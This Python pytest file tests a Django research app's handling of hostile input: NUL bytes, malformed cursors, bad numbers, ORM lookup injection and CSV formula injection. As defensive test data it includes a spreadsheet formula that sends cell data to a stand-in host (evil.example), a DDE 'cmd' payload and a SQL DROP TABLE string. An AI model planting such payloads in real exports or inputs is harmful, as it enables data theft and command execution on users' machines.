"""Hostile query input answers a 4xx in the error format, never a 500 (issue 11, "Bad query input is a 4xx").

The list endpoints are read from the OpenAPI schema, so a new list endpoint gets every hostile input below
without anyone adding it here: NUL bytes in every parameter, out-of-range `updated_since`, malformed cursors,
bad page sizes and numbers. User input never names an ORM lookup: attribute and segment filters take a literal
key, whatever its characters.
"""

import base64
import io
import json
import re
from datetime import UTC, datetime

import pytest
from django.conf import settings
from django.urls import reverse
from rest_framework.test import APIClient

from empathy_site.tenancy.context import tenant_scope
from interviews import services as interview_services
from interviews.models import Interview
from personas import services as persona_services
from tests.api_assertions import assert_error
from tests.test_api_schema import SCHEMA_URL, build_objects, no_dns  # noqa: F401  (no_dns is a fixture)


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


HOSTILE_UPDATED_SINCE = [
    "2026-13-01T00:00:00Z",  # month 13
    "2026-02-30T00:00:00Z",
    "2026-01-01T25:00:00Z",
    "2026-01-01T00:00:00+25:00",  # offset past 24 h
    "0000-01-01T00:00:00Z",  # year 0
    "99999-01-01T00:00:00Z",
    "0001-01-01T00:00:00+05:00",  # before year 1 in UTC
    "9999-12-31T23:59:59-23:59",  # after year 9999 in UTC
    "yesterday",
    "1" * 5000,
]

HOSTILE_CURSORS = [
    _b64(b'{"p":1e400}'),
    _b64(b'{"v":1,"p":1e400}'),
    _b64(b'{"v":1,"p":99999999999999999999999999999}'),
    _b64(b'{"v":1,"p":-1}'),
    _b64(b'{"v":1,"p":"7"}'),
    _b64(b'{"v":1,"p":true}'),
    _b64(b'{"v":1,"p":[1]}'),
    _b64(b"p=1e400"),
    _b64(b"p=99999999999999999999999999999"),
    _b64(b"p=not-a-position"),
    _b64(b"p=2026-13-45+10:00:00"),
    _b64(b"o=99999999999999999999999999999"),
    _b64(b"o=-1"),
    _b64(b"r=2"),
    _b64(b"x=1"),
    _b64(b"p=\x00"),
    _b64(b"\xff\xfe\xfd"),
    "!!!not base64!!!",
    "A" * 10001,
]

HOSTILE_NUMBERS = ["abc", "0", "-1", "1.5", "1e3", "1e400", "99999999999999999999999999", "1" * 5000, "Infinity", "NaN"]

NUL_VALUES = ["\x00", "a\x00b", "2026-01-01T00:00:00Z\x00"]


def _schema(client) -> dict:
    response = client.get(SCHEMA_URL)
    assert response.status_code == 200
    return response.json()


def _resolve(schema, node):
    while isinstance(node, dict) and "$ref" in node:
        name = node["$ref"].rsplit("/", 1)[-1]
        node = schema["components"]["schemas"][name]
    return node


def list_operations(schema) -> list[dict]:
    """Every GET operation whose 200 answer is the list envelope {"results": [...], "next": ...}."""
    found = []
    for path, item in schema["paths"].items():
        operation = item.get("get")
        if not operation:
            continue
        content = operation["responses"].get("200", {}).get("content", {}).get("application/json", {})
        body = _resolve(schema, content.get("schema", {}))
        if "results" not in body.get("properties", {}):
            continue
        parameters = {p["name"]: p for p in operation.get("parameters", []) if p["in"] == "query"}
        found.append({"path": path, "parameters": parameters})
    return found


# The real object behind a list endpoint's {id}: its first path segment names the kind.
def _fill_path(path: str, ids: dict) -> str:
    if "{id}" not in path:
        return path
    resource = path.removeprefix("/api/v1/").split("/")[0]
    return path.replace("{id}", str(ids[resource]))


def _base_query(parameters: dict) -> dict:
    """Values for the required parameters that the organisation's objects answer with a 200."""
    query = {}
    for name, parameter in parameters.items():
        if parameter.get("required"):
            assert parameter["schema"].get("type") == "string", f"teach _base_query about {name}"
            query[name] = "vendors"
    return query


@pytest.fixture
def world(db, no_dns, alice):  # noqa: F811
    ids = build_objects(alice.org)
    client = APIClient()
    client.force_login(alice.user)  # the admin may call every list, webhooks included
    client.credentials(HTTP_X_ORGANIZATION=alice.org.slug)
    operations = list_operations(_schema(client))
    return ids, client, operations


def test_the_schema_lists_the_list_endpoints(world):
    _, _, operations = world
    paths = {op["path"] for op in operations}
    # The derivation works: the resources and nested lists of DESIGN.md are all found.
    assert {"/api/v1/participants/", "/api/v1/interviews/{id}/utterances/", "/api/v1/changes/",
            "/api/v1/search/", "/api/v1/webhooks/"} <= paths
    assert len(paths) >= 15
    # Every list of objects the changes feed tracks documents updated_since, so schemathesis fuzzes it too.
    with_since = {op["path"] for op in operations if "updated_since" in op["parameters"]}
    assert {f"/api/v1/{name}/" for name in ("participants", "studies", "interviews", "tags", "highlights",
                                            "personas", "claims", "citations", "messages")} <= with_since


def test_every_list_answers_200_to_a_plain_request(world):
    """The baseline: without it, the 400s below could come from something else than the hostile value."""
    ids, client, operations = world
    for op in operations:
        response = client.get(_fill_path(op["path"], ids), _base_query(op["parameters"]))
        assert response.status_code == 200, (op["path"], response.content[:300])


def test_nul_bytes_in_any_query_parameter_are_a_400(world):
    ids, client, operations = world
    for op in operations:
        base = _base_query(op["parameters"])
        # Every documented parameter, and parameters no view reads.
        for name in [*op["parameters"], "updated_since", "q", "undocumented"]:
            for value in NUL_VALUES:
                response = client.get(_fill_path(op["path"], ids), {**base, name: value})
                assert_error(response, 400, "invalid")
        response = client.get(_fill_path(op["path"], ids), {**base, "a\x00b": "1"})
        assert_error(response, 400, "invalid")


def test_nul_bytes_in_the_organisation_header_are_a_400(world, alice):
    client = APIClient()
    client.force_login(alice.user)
    assert_error(client.get("/api/v1/participants/", HTTP_X_ORGANIZATION=f"{alice.org.slug}\x00"), 400, "invalid")


def test_nul_bytes_in_a_path_segment_are_a_4xx(world):
    ids, client, operations = world
    for op in operations:
        path = _fill_path(op["path"], ids)
        for broken in (path.rstrip("/") + "%00/", path.replace("/api/v1/", "/api/v1/%00", 1)):
            response = client.get(broken)
            assert 400 <= response.status_code < 500, (broken, response.status_code)
            assert response.json()["error"]["code"]


def test_updated_since_out_of_range_is_a_400(world):
    ids, client, operations = world
    lists = [op for op in operations if "updated_since" in op["parameters"]]
    assert lists
    for op in lists:
        for value in HOSTILE_UPDATED_SINCE:
            response = client.get(_fill_path(op["path"], ids), {"updated_since": value})
            assert_error(response, 400, "invalid")
            assert "updated_since" in response.json()["error"]["details"], (op["path"], value)


def test_updated_since_in_range_still_filters(world):
    ids, client, _ = world
    assert client.get("/api/v1/participants/", {"updated_since": "2000-01-01T00:00:00+14:00"}).json()["results"]
    assert client.get("/api/v1/participants/", {"updated_since": "9999-12-31T23:00:00Z"}).json()["results"] == []


def test_malformed_cursors_are_a_400(world):
    ids, client, operations = world
    lists = [op for op in operations if "cursor" in op["parameters"]]
    assert len(lists) >= 10
    for op in lists:
        for cursor in HOSTILE_CURSORS:
            response = client.get(_fill_path(op["path"], ids), {**_base_query(op["parameters"]), "cursor": cursor})
            assert_error(response, 400, "invalid")


def test_cursors_we_hand_out_still_work(world, alice):
    ids, client, _ = world
    with tenant_scope(alice.org):
        for number in range(3):
            interview_services.participant_create(pseudonym=f"P-extra-{number}")
    first = client.get("/api/v1/participants/", {"page_size": 2}).json()
    assert len(first["results"]) == 2 and first["next"]
    second = client.get(first["next"]).json()
    assert second["results"] and {p["id"] for p in second["results"]}.isdisjoint({p["id"] for p in first["results"]})
    changes = client.get("/api/v1/changes/", {"limit": 1}).json()
    assert client.get(changes["next"]).status_code == 200
    utterances = client.get(f"/api/v1/interviews/{ids['interviews']}/utterances/", {"page_size": 1}).json()
    assert client.get(utterances["next"]).json()["results"]


def test_bad_numbers_in_numeric_parameters_are_a_400(world):
    """page_size, limit, page: not a number, zero, negative, fractional, huge or past the maximum."""
    ids, client, operations = world
    checked = 0
    for op in operations:
        numeric = [name for name, p in op["parameters"].items() if p["schema"].get("type") == "integer"]
        for name in numeric:
            for value in [*HOSTILE_NUMBERS, "501", "100000"]:
                response = client.get(_fill_path(op["path"], ids), {**_base_query(op["parameters"]), name: value})
                assert_error(response, 400, "invalid")
                checked += 1
    assert checked > 100


def test_a_body_over_the_limit_is_a_413_in_the_error_format(world):
    _, client, _ = world
    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    big_json = json.dumps({"pseudonym": "P-big", "attributes": {"notes": "x" * (limit + 10)}})
    response = client.post("/api/v1/participants/", big_json, content_type="application/json")
    assert_error(response, 413, "too_large")

    response = client.post("/api/v1/participants/", "pseudonym=P-big&name=" + "x" * (limit + 10),
                           content_type="application/x-www-form-urlencoded")
    assert_error(response, 413, "too_large")

    # Only the upload parses form fields (every other endpoint takes JSON): Django's field limits guard it.
    too_many = {f"f{n}": "1" for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 5)}
    response = client.post("/api/v1/interviews/", too_many, format="multipart")
    assert_error(response, 413, "too_large")


def test_a_multipart_field_over_the_limit_is_a_413(world):
    _, client, _ = world
    upload = io.BytesIO(b"Dana: Hello.\n")
    upload.name = "call.txt"
    response = client.post("/api/v1/interviews/", {"file": upload, "title": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10)},
                           format="multipart")
    assert_error(response, 413, "too_large")


# Attribute and segment filters: a literal key, never an ORM lookup --------------------------------------

LOOKUP_NAMES = ["isnull=x", "regex=(", "range=x", "in=x", "contains=x", "iregex=[", "role__isnull=x",
                "role__regex=(", "gt=1", "0=x", "=x"]


@pytest.fixture
def odd_keys(world, alice):
    """Participants whose attribute keys have spaces, quotes, unicode, SQL-looking text, and lookup names."""
    ids, client, _ = world
    with tenant_scope(alice.org):
        interview = Interview.objects.get(public_id=ids["interviews"])
        speaker = interview.speakers.get(label="Dana")
        participant = speaker.participant
        participant.attributes = {
            "role": "procurement", "company size": "10-50", 'he said "hi"': "yes", "größe": "groß",
            "x'); DROP TABLE interviews_participant; --": "sql", "isnull": "x", "regex": "(",
        }
        participant.save()
        persona_services.persona_create(name="Spacey", segment={"company size": "10-50", "isnull": "x"})
    return ids, client


@pytest.mark.parametrize("attribute", LOOKUP_NAMES)
def test_search_attribute_filter_never_reaches_the_orm_as_a_lookup(odd_keys, attribute):
    _, client = odd_keys
    response = client.get("/api/v1/search/", {"q": "vendors", "attribute": attribute})
    assert response.status_code in (200, 400), response.content[:300]
    if response.status_code == 400:
        assert_error(response, 400, "invalid")


@pytest.mark.parametrize("key,value,found", [
    ("company size", "10-50", True),
    ('he said "hi"', "yes", True),
    ("größe", "groß", True),
    ("x'); DROP TABLE interviews_participant; --", "sql", True),
    ("isnull", "x", True),  # a key named like a lookup is just a key
    ("regex", "(", True),
    ("role", "procurement", True),
    ("role", "marketing", False),
    ("role__isnull", "False", False),
])
def test_search_attribute_filter_takes_the_key_literally(odd_keys, key, value, found):
    _, client = odd_keys
    response = client.get("/api/v1/search/", {"q": "vendors", "attribute": f"{key}={value}"})
    assert response.status_code == 200, response.content[:300]
    assert bool(response.json()["results"]) is found


@pytest.mark.parametrize("attribute", [*LOOKUP_NAMES, "company size=10-50", "x'); DROP TABLE t; --=1"])
def test_web_search_attribute_filter_is_never_a_500(odd_keys, alice, attribute, client):
    client.force_login(alice.user)
    url = reverse("evidence_search", kwargs={"org_slug": alice.org.slug})
    response = client.get(url, {"q": "vendors", "attribute": attribute})
    assert response.status_code in (200, 400)


def test_web_search_finds_a_key_with_spaces(odd_keys, alice, client):
    client.force_login(alice.user)
    url = reverse("evidence_search", kwargs={"org_slug": alice.org.slug})
    response = client.get(url, {"q": "vendors", "attribute": "company size=10-50"})
    assert response.status_code == 200
    assert b"P-Dana" in response.content and b"<mark>vendors</mark>" in response.content


@pytest.mark.parametrize("segment", [*LOOKUP_NAMES, "company size=10-50"])
def test_persona_gallery_segment_is_never_a_lookup(odd_keys, alice, client, segment):
    client.force_login(alice.user)
    response = client.get(reverse("persona_gallery", kwargs={"org_slug": alice.org.slug}), {"segment": segment})
    assert response.status_code in (200, 400)


def test_persona_gallery_segment_takes_the_key_literally(odd_keys, alice, client):
    client.force_login(alice.user)
    url = reverse("persona_gallery", kwargs={"org_slug": alice.org.slug})
    assert b"Spacey" in client.get(url, {"segment": "company size=10-50"}).content
    assert b"Spacey" in client.get(url, {"segment": "isnull=x"}).content
    assert b"Spacey" not in client.get(url, {"segment": "isnull=y"}).content


@pytest.mark.parametrize("attribute", ["company size", 'he said "hi"', "größe",
                                       "x'); DROP TABLE interviews_participant; --", "isnull", "role"])
def test_patterns_page_and_csv_take_any_attribute_key(odd_keys, alice, client, attribute):
    client.force_login(alice.user)
    page = client.get(reverse("patterns", kwargs={"org_slug": alice.org.slug}), {"attribute": attribute})
    assert page.status_code == 200
    csv_response = client.get(reverse("patterns_matrix_csv", kwargs={"org_slug": alice.org.slug}),
                              {"attribute": attribute})
    assert csv_response.status_code == 200
    header, first = csv_response.content.decode().splitlines()[:2]
    assert first.startswith("Vendors,")
    assert "1" in first.split(",")[1:]


def test_patterns_works_when_no_participant_has_the_chosen_attribute(odd_keys, alice, client):
    client.force_login(alice.user)
    response = client.get(reverse("patterns", kwargs={"org_slug": alice.org.slug}), {"attribute": "plan"})
    assert response.status_code == 200
    assert "No participant has the attribute “plan”" in response.content.decode()


def test_patterns_works_when_no_participant_has_attributes(db, alice, client):
    with tenant_scope(alice.org):
        interview_services.participant_create(pseudonym="P-bare")
    client.force_login(alice.user)
    response = client.get(reverse("patterns", kwargs={"org_slug": alice.org.slug}), {"attribute": "role"})
    assert response.status_code == 200
    assert "Give participants attributes" in response.content.decode()


# NUL bytes in the web UI's query parameters ---------------------------------------------------------------

@pytest.mark.parametrize("name,params", [
    ("participant_list", {"q": "a\x00b"}),
    ("evidence_search", {"q": "vendors\x00", "attribute": "role=x"}),
    ("persona_gallery", {"segment": "role=\x00"}),
    ("persona_gallery", {"status": "\x00"}),
    ("patterns", {"attribute": "\x00"}),
    ("interview_list", {"study": "\x00"}),
])
def test_web_query_parameters_with_nul_bytes_are_a_400(db, alice, client, name, params):
    client.force_login(alice.user)
    response = client.get(reverse(name, kwargs={"org_slug": alice.org.slug}), params)
    assert response.status_code == 400


def test_consent_dates_far_away_do_not_break_the_lists(world, alice):
    """Big but valid dates round-trip: bounds refuse what is invalid, not what is unusual."""
    _, client, _ = world
    with tenant_scope(alice.org):
        interview_services.participant_create(pseudonym="P-far", consent_given_at=datetime(9999, 1, 1, tzinfo=UTC))
    assert client.get("/api/v1/participants/").status_code == 200


def test_no_module_names_an_orm_lookup_from_a_format_string():
    """The root of the lookup injections: a user-controlled piece inside a lookup string. Only fixed
    prefixes may be built this way; keys go through the literal JSON key helper."""
    import pathlib

    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = []
    for path in [*root.glob("interviews/**/*.py"), *root.glob("personas/**/*.py"), *root.glob("empathy_site/**/*.py")]:
        if "migrations" in path.parts or path.name == "json_keys.py":  # it describes the pitfall
            continue
        for number, line in enumerate(path.read_text().splitlines(), start=1):
            if re.search(r"""\*\*\{\s*f["'][^"']*(attributes|segment)__\{""", line) or re.search(
                    r"""f["'][^"']*(attributes|segment)__\{""", line):
                offenders.append(f"{path.relative_to(root)}:{number}: {line.strip()}")
    assert not offenders, "\n".join(offenders)


# CSV: every cell formula-safe, header rows included ------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def _csv_cells(content: bytes) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def _is_number(cell: str) -> bool:
    """A negative count or gap is a number to a spreadsheet, not a formula."""
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell) is not None


def test_every_csv_export_is_formula_safe_headers_included(world, alice, client):
    from interviews.models import Participant, Tag
    from personas.models import Persona

    ids, _, _ = world
    with tenant_scope(alice.org):
        participant = Participant.objects.get(public_id=ids["participants"])
        participant.attributes = {FORMULA: "-2+3", "role": "@SUM(1+1)"}
        participant.save()
        Tag.objects.filter(public_id=ids["tags"]).update(name="+cmd|' /C calc'!A0")
        Persona.objects.filter(public_id=ids["personas"]).update(name="\tTAB=1+1")
    client.force_login(alice.user)
    slug = alice.org.slug
    exports = [
        client.get(reverse("patterns_matrix_csv", kwargs={"org_slug": slug}), {"attribute": FORMULA}),
        client.get(reverse("patterns_matrix_csv", kwargs={"org_slug": slug}), {"attribute": "role"}),
        client.get(reverse("patterns_cooccurrence_csv", kwargs={"org_slug": slug})),
        client.get(reverse("message_insights_csv", kwargs={"org_slug": slug})),
    ]
    for response in exports:
        assert response.status_code == 200
        cells = _csv_cells(response.content)
        assert cells
        dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)]
        assert not dangerous, dangerous
    # The header carries the key, neutralised rather than dropped; numbers stay numbers.
    header = _csv_cells(exports[0].content)
    assert f"'{FORMULA}=-2+3" in header
    assert any("'+cmd" in cell for cell in _csv_cells(exports[1].content))
    assert any(cell == "'\tTAB=1+1" for cell in _csv_cells(exports[3].content))


def test_every_csv_goes_through_the_one_formula_safe_writer():
    """A new export can't forget: only empathy_site/tenancy/web.py may build a csv writer."""
    import pathlib

    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = []
    for folder in ("interviews", "personas", "empathy_site"):
        for path in (root / folder).rglob("*.py"):
            if path == root / "empathy_site/tenancy/web.py":
                continue
            text = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(", text):
                offenders.append(str(path.relative_to(root)))
    assert not offenders, f"write CSV with empathy_site.tenancy.web.csv_download instead: {offenders}"


def test_the_formula_safe_writer_keeps_numbers_and_neutralises_text():
    from empathy_site.tenancy.web import csv_safe

    assert [csv_safe(v) for v in (-3, 2.5, 0, None, "-3", "=1", "@a", "+1", "\tx", "\rx", "\nx", "ok")] == [
        -3, 2.5, 0, "", "'-3", "'=1", "'@a", "'+1", "'\tx", "'\rx", "'\nx", "ok"]
